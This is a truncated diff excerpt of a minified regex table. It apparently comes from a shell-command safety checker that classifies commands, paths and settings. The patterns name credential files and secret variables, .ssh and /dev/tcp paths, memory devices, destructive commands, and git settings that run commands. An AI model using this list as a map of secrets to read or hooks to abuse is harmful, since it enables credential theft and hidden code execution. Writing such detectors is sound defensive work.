@@ -1391,1334 +1391,1283 @@ xec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\
 "^\\\\s*:?\\\\s*(?:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh\
 (?:ell)?|term(?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\\bvolume create\\\\\
 b.* (?:-[odcH]|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariadb|percona|redis|v\
-alkey|keydb|mongo|clickhouse-server|memcached|rabbitmq|redpanda|kafka|cp-kafka|nats|etcd)(?:[:@]|$)"],"near_client":["^(?:rabbitmqctl|rabbitmqadmin|rpk|kafka-\\\\\
-w+(?:\\\\.sh)?|etcdctl|nodetool)$"],"container_network":[" --?net(?:work)?[= ](?:name=)?(?:host|container|ns|slirp\\\\w*|pasta)\\\\b| --(?:link|env-file)\\\\b|(?:HOST(?\
-!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE|ENDPOINT|SEED)\\\\w*=|--seeds\\\\b| [A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin\
-)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\
-\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts\
-":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPa\
-th\\\\(\\\\s*Environment\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocuments)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:ho\
-medir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!\
-?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\
-\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|as\
-kpass|fsmonitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|\
-filter|difftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$"\
-,"i"],"production_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_progra\
-m":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|\
-alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"unfollowed_state":["\\\\$\\\\[|\\\\$\\\\{\\\\w+!|\\\\$\\\\{\\\\w+\\\\[[^\\\\]\\\\n]{0,60}/|nocasematch\
-|BASHOPTS|posix|POSIX|BASH_FUNC_|\\\\bset -\\\\w*[kA]|\\\\bset -\\\\w+o\\\\b|\\\\bulimit\\\\b|\\\\bexec\\\\b[^;\\\\n]{0,60}&-|\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n\
-]{0,60}[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bfunctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -\\\\w*p|(?<!\\\\bsystem\
-ctl(?: -[\\\\w=-]+)* )\\\\b(?:disable|enable)\\\\b|\\\\b(?:let|eval|source|unset|integer|float|repeat|always|unfunction|unhash|emulate|zmodload|getopts|coproc|shopt|set\
-opt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|(\\\\n])[ \\\\t]*\\\\.\\\\s"],"printing_builtin":["^(?:echo|printf)$"],"secret_variable":["^(?:\\\\w+_)?(?:TOKEN|SECRET|PASSWOR\
-D|PASSWD|API_?KEY|SECRET_KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)$"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|R\
-EPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIRSTACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*path|pipestatus|options|comm\
-ands|functions|aliases|match|reply|signals|history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK_\\\\w+)$"],"unfollowed_builti\
-n":["^(?:let|eval|source|\\\\.|shopt|enable|setopt|trap|declare|typeset|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\\w+| p\
-ipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["^yes\\\\\
-b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b\\\\w+_ATTRIBUTES\\\\b|\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use(?\
-!\\\\s+(?:strict|warnings|utf8|v?5[\\\\d.]*)\\\\s*;)|no|require)\\\\b"],"checking_option":["^(?:c|check|no-prompt|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|\
-pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\
-\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|start\
-swith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]t\
-ime)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implod\
-e|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl\
-|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/\
-]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(\
-cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"loca\
-l_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)\
-"],"disposable_name":["^\\\\.coverage\\\\..+$|^\\\\.tsbuildinfo$|^\\\\.venv[-_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|test|scratch|demo|dummy|build|dist|out|cmake\
--build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated|objs)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|ob\
-j|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|te\
-st\\\\.db)$|.+\\\\.rcheck$|^_minted.*|^mymeta\\\\.\\\\*$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"device":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|s\
-tdout|stderr|tty|fd|null|zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|--profile|--endpoints|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!d\
-b[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)\
-?sh|env|timeout|nohup|nice|time|xargs|find|awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|\
-[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s\
-*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_s\
-k)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|root\
-s?)).*\\\\.pem$|^(app|prod|production|staging|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|tom\
-l|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|loca\
-l|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-admins\
-dk).*\\\\.json$|(^|[-_.])(api|secret|private|access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( for account)?(-journal)?$|^\
-vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"\
-fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inet\
-pub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|r\
-ustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--f\
-iles)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\$?\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\
-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w\
-+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\
-\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^(?:[ef]?grep|rg)(?: -[nEFrhHswS]+)* (?:\\\\^|\\\\\\\\b)?\\\\(?(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\\
-w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|\
-GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\))(?:\\\\\\\\?\\\\|(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PO\
-RT|ENV|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\)\
-))*\\\\)?=?(?: -S| (?:\\\\S*/)?\\\\.env[\\\\w.*-]*| (?![~/])[\\\\w./*-]+(?<!\\\\.(?:json|ya?ml|toml|ini|cfg|conf|pem|key)))*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w\
-+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"shows_more":["\\u00a7|\\\\.env\\\\b|\\\\$[\\\\d&~+\`]|\\\\$'|\\\\b(?:eval|exec|compile|Functi\
-on|globals|locals|vars|getattr|setattr|inspect|traceback|pdb|breakpoint|__\\\\w+__|arguments|gc|_getframe|dis|ctypes|debugger|binding|instance_variable\\\\w*|local_\
-variables|ObjectSpace|read\\\\w*|open\\\\w*|load_dotenv|[dD]otenv\\\\w*|fileinput|linecache|create(?:ReadStream|Interface)|File|IO|subprocess|system|popen|child_proce\
-ss|spawn\\\\w*|exec\\\\w*|import_module|importlib|runpy|Bun|Deno|throw|except|catch|rescue|globalThis|global|window|self|this|RegExp|Regexp|MatchData|post_match|pre\
-_match|rightContext|leftContext|lastMatch|prototype|class|refine|import|require)\\\\b|(?<![\\\\w.])(?:len|sorted|list|set|print|str|Boolean|Object|Array|String|cons\
-ole|re|fs)\\\\s*=(?!=)|\\\\bdef (?:len|sorted|list|set|print)\\\\b|\\\\bfunction (?:Boolean|Object)\\\\b"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*(?:\\\
-\\.env(?:\\\\.[\\\\w-]+)*|\\\\w[\\\\w-]*\\\\.env)$"],"line_filter":["^(?:cat|wc(?!.* --files0)|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output|--fi\
-les0))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|(?:docker|podman) (?:inspect|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)|kubectl get|oc get) ?"],"secret_l\
-isting":["^(?:kubectl|oc)$"],"environment_listing":["^(?:docker|podman) (?:inspect .*\\\\{\\\\{range \\\\.Config\\\\.Env\\\\}\\\\}\\\\{\\\\{println \\\\.\\\\}\\\\}\\\\{\\\\{end\\\\}\\\\}|exe\
-c (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file\
-":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[.\
-_-](?:example|sample|template|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\
-\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],\
-"sed_command":["(?<between>[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+\
-:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\]|_)(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\\
-k<delimiter>)[^\\\\\\\\[])*)\\\\k<delimiter>(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<oth\
-er>y(?<mark>[^\\\\w\\\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\\
-d*|[:btTv][^;\\\\n}]*)|e(?<command>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"group_in_path":["(?<=[\\\\w.\\\\]}])/\\\\(([\\\\w.-]{1,60\
-})\\\\)(?=[/\\\\s]|$)","g"],"brace_count":["^\\\\{-?\\\\d{1,9}\\\\.\\\\.-?\\\\d{1,9}(?:\\\\.\\\\.-?\\\\d{1,6})?\\\\}$"],"brace_sequence":["^(?:(-?\\\\d{1,9})\\\\.\\\\.(-?\\\\d{1,9})|([A-Za-z\
-])\\\\.\\\\.([A-Za-z]))(?:\\\\.\\\\.-?(\\\\d{1,6}))?$"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60\
-?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape\
-":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\
-\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\\
-([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"]\
-,"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],\
-"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\
-\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_\
-false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement":["'\\\\s*((?:drop\
-|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/\
-@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\\
-*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|context|config.*)$\
-"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should|must|has to|hav\
-e to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ \
-x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"tex\
-t_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2\
-014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]\
-*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]\
-==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|\
-&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|\
-u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<c\
-lose>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quot\
-ing_none":["(?!)","y"],"heredoc_perl":["<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","y"],"heredoc_r\
-uby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|[^/\\\
-\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":["\\\\{(?=\\\\$)|\
-@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"],"t\
